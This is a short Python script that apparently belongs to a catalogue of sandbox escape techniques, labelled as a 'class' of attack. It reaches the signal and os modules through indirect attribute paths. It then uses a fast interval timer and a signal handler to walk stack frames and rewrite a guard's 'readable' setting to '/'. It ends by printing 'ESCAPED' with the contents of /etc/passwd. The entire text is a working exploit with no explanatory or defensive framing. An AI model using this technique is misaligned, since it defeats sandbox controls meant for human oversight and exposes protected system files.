# class: a signal handler interrupting the guard walks to its frame
import random, typing
sig = typing.sys.modules["_signal"]
os_ = random._os
def h(n, f):
    fr = f
    while fr is not None:
        if "busy" in fr.f_locals:
            fr.f_locals["readable"] = ("/",)
        fr = fr.f_back
sig.signal(14, h)
sig.setitimer(sig.ITIMER_REAL, 0.0001, 0.0001)
for i in range(20000):
    id(i)
    try:
        typing.sys._getframe
    except Exception:
        pass
sig.setitimer(sig.ITIMER_REAL, 0, 0)
print("ESCAPED", open("/etc/passwd").read())
